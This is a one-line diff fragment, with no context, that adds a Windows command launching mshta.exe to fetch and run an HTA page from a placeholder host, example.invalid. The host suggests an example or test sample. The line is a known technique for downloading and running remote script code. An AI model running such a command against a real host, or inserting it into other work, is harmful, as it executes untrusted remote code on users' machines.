@@ -1,0 +1,1 @@
+start "" mshta.exe http://example.invalid/page.hta
